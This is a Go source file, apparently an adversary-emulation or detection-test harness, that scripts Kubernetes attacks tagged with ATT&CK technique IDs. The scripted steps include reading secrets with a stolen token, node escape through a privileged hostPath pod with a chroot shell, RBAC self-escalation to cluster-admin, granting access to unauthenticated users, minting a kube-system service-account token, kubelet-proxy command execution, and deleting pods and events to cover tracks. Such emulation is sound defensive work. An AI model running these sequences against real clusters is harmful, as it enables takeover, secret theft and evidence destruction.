package siege

import "net/http"

// Techniques that an analyst would name, by what is done. Where ATT&CK leaves a
// choice, each choice is accepted; so is a technique for one of its
// sub-techniques.
const (
	discovery  = "T1613 T1069"
	secretRead = "T1552.007 T1552"
	execution  = "T1609"
	deployment = "T1610"
	escape     = "T1610 T1611"
	roleGrant  = "T1098.006 T1098"
	tokenMint  = "T1528 T1098 T1550.001"
	otherToken = "T1550.001 T1078"
	cleaning   = "T1070"
	impair     = "T1562.001 T1562"
)

// attacks are the ten, in no order.
func attacks() []scripted {
	return []scripted{
		{"stolen token, secrets, shell", program("web/storefront", curl, "127.42.1.24"), stolenToken},
		{"pod that owns its node", program("orders/batch", kubectl, "127.42.2.26"), nodeEscape},
		{"role that raises itself", program("data/notebook", "python-requests/2.32.4", "127.42.3.28"), raisedRole},
		{"token of the system minted", program("platform/operator", curl, "127.42.3.19"), mintedToken},
		{"kubelet behind the proxy", program("monitoring/node-reporter", "Go-http-client/2.0", "127.42.2.14"), kubeletProxy},
		{"certificate for later", identity{email("pavel"), kubectl, "127.0.113.40"}, certificate},
		{"webhook that sees everything", program("gitops/controller", kubectl, "127.0.113.41"), plantedWebhook},
		{"job with a name of the system", program("gitops/controller", "gitops-controller/v2.7.1", "127.42.1.10"), lookalikeJob},
		{"container beside the ledger", identity{email("mira"), kubectl, "127.0.113.42"}, addedContainer},
		{"secrets by name", program("data/report", "Go-http-client/2.0", "127.42.3.27"), enumeration},
	}
}

const shell = "?command=sh&container=main&stdin=true&stdout=true&tty=true"

// stolenToken: the storefront was broken into over HTTP. Its token is used
// with curl to see what it opens.
func stolenToken(p *script) {
	p.step("asks what it may do", discovery).want(201, p.create(grouped(authz, "", "selfsubjectrulesreviews"), rulesReview("web")).Code)
	p.step("tries the secrets of all namespaces", secretRead).want(403, p.get(core("", "secrets")+"?limit=500").Code)
	p.step("lists the secrets of its namespace", secretRead).want(200, p.get(core("web", "secrets")+"?limit=500").Code)
	p.step("looks for pods", discovery).want(200, p.get(core("web", "pods")).Code)
	victim := core("web", "pods", p.victim("web", "cache"), "exec") + shell
	p.step("opens a shell (WebSocket)", execution).want(101, p.stream(http.MethodGet, victim))
	p.step("opens a shell (SPDY)", execution).want(101, p.stream(http.MethodPost, victim))
}

func rulesReview(ns string) object {
	return object{"apiVersion": authz, "kind": "SelfSubjectRulesReview", "spec": object{"namespace": ns}}
}

// nodeEscape: who may create pods makes one that owns its node, uses it, and
// removes the traces.
func nodeEscape(p *script) {
	const name = "import-helper"
	p.made("orders", name)
	p.step("creates a privileged pod with the node's root", escape).answered(201, p.create(core("orders", "pods"), hostPod("orders", name)))
	p.until("the pod", func() bool { return p.siege.podRuns(p.ctx, "orders", name) })
	p.step("opens a shell of the node", execution+" T1611").want(101, p.stream(http.MethodGet, core("orders", "pods", name, "exec")+"?command=chroot&command=%2Fhost&command=sh&container=main&stdin=true&stdout=true"))
	p.step("deletes the pod", cleaning).want(200, p.remove(core("orders", "pods", name)+"?gracePeriodSeconds=0").Code)
	p.step("deletes the events of the namespace", cleaning).want(200, p.remove(core("orders", "events")).Code)
}

func hostPod(ns, name string) object {
	body := named("v1", "Pod", ns, name, object{"app": "import"})
	body["spec"] = object{
		"hostPID": true, "restartPolicy": "Never", "nodeSelector": object{"pool": "apps"},
		"containers": []any{object{
			"name": "main", "image": "docker.io/library/alpine:3.22", "command": []string{"sleep", "86400"},
			"securityContext": object{"privileged": true}, "volumeMounts": []any{object{"name": "host", "mountPath": "/host"}},
		}},
		"volumes": []any{object{"name": "host", "hostPath": object{"path": "/"}}},
	}
	return body
}

// raisedRole: a notebook may write roles and escalate. It raises its own,
// binds it, reads everything, and leaves a door open to everybody.
func raisedRole(p *script) {
	p.step("reads its role", discovery).want(200, p.get(grouped(rbac, "", "clusterroles", "notebook")).Code)
	everything := []any{object{"apiGroups": []string{"*"}, "resources": []string{"*"}, "verbs": []string{"*"}}}
	p.step("gives its role everything", roleGrant).answered(200, p.do(merge(grouped(rbac, "", "clusterroles", "notebook"), object{"rules": everything})))
	p.until("the authorizer", func() bool { return p.siege.may(p.ctx, "data/notebook", "list", "secrets") })
	p.step("binds cluster-admin", roleGrant).answered(201, p.create(grouped(rbac, "", "clusterrolebindings"), binding("", "ClusterRole", "cluster-admin", "data/default", "notebook-kernels")))
	p.step("lists every secret", secretRead).want(200, p.get(core("", "secrets")).Code)
	p.made("", "public-status")
	p.step("opens the pods to everybody", roleGrant+" T1078.001 T1133").answered(201, p.create(grouped(rbac, "", "clusterrolebindings"), binding("", "ClusterRole", "view", "group:system:unauthenticated", "public-status")))
	p.until("the authorizer", func() bool { return p.siege.anyoneMay(p.ctx) })
	p.as(identity{nobody, curl, "127.0.113.43"})
	p.step("lists pods without a credential", "T1078.001 T1613 T1133").want(200, p.get(core("payments", "pods")).Code)
}

// merge is a JSON merge patch.
func merge(path string, body any) request {
	return request{Verb: http.MethodPatch, Path: path, Type: "application/merge-patch+json", Body: body}
}

// mintedToken: an operator may make tokens of every account. One of the system
// is used from outside.
func mintedToken(p *script) {
	p.step("lists service accounts of the system", discovery).want(200, p.get(core("kube-system", "serviceaccounts")).Code)
	answer := p.step("makes a token of a controller of the system", tokenMint).answered(201, p.create(core("kube-system", "serviceaccounts", "generic-garbage-collector", "token"), object{
		"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": object{"expirationSeconds": 86400},
	}))
	var minted struct{ Status struct{ Token string } }
	p.took(answer.Decode(&minted))
	client, err := p.siege.plane.Bearer(minted.Status.Token)
	p.took(err)
	if err != nil {
		return
	}
	p.become(identity{"kube-system/generic-garbage-collector", curl, "127.0.113.44"}, client)
	p.step("lists secrets as the controller", secretRead+" "+otherToken).want(200, p.get(core("", "secrets")+"?limit=500").Code)
	p.step("lists pods as the controller", discovery+" "+otherToken).want(200, p.get(core("", "pods")+"?limit=500").Code)
	p.step("deletes the payments' policy as the controller", impair+" "+otherToken).want(200, p.remove(grouped(nets, "payments", "networkpolicies", "default-deny")).Code)
}

// kubeletProxy: whoever may use nodes/proxy runs commands at kubelets, which no
// audit log calls exec.
func kubeletProxy(p *script) {
	node := p.pick(allNodes()...)
	p.step("lists nodes", discovery).want(200, p.get(core("", "nodes")).Code)
	p.step("lists the pods of a kubelet", discovery).want(200, p.get(core("", "nodes", node, "proxy/pods")).Code)
	p.step("reads the settings of a kubelet", discovery+" T1552.007").want(200, p.get(core("", "nodes", node, "proxy/configz")).Code)
	p.step("runs a command at a kubelet", execution).want(200, p.create(core("", "nodes", node, "proxy/run/payments/ledger-0/main")+"?cmd=id", nil).Code)
	p.step("runs another at a kubelet", execution).want(200, p.create(core("", "nodes", node, "proxy/run/payments/ledger-0/main")+"?cmd=env", nil).Code)
}
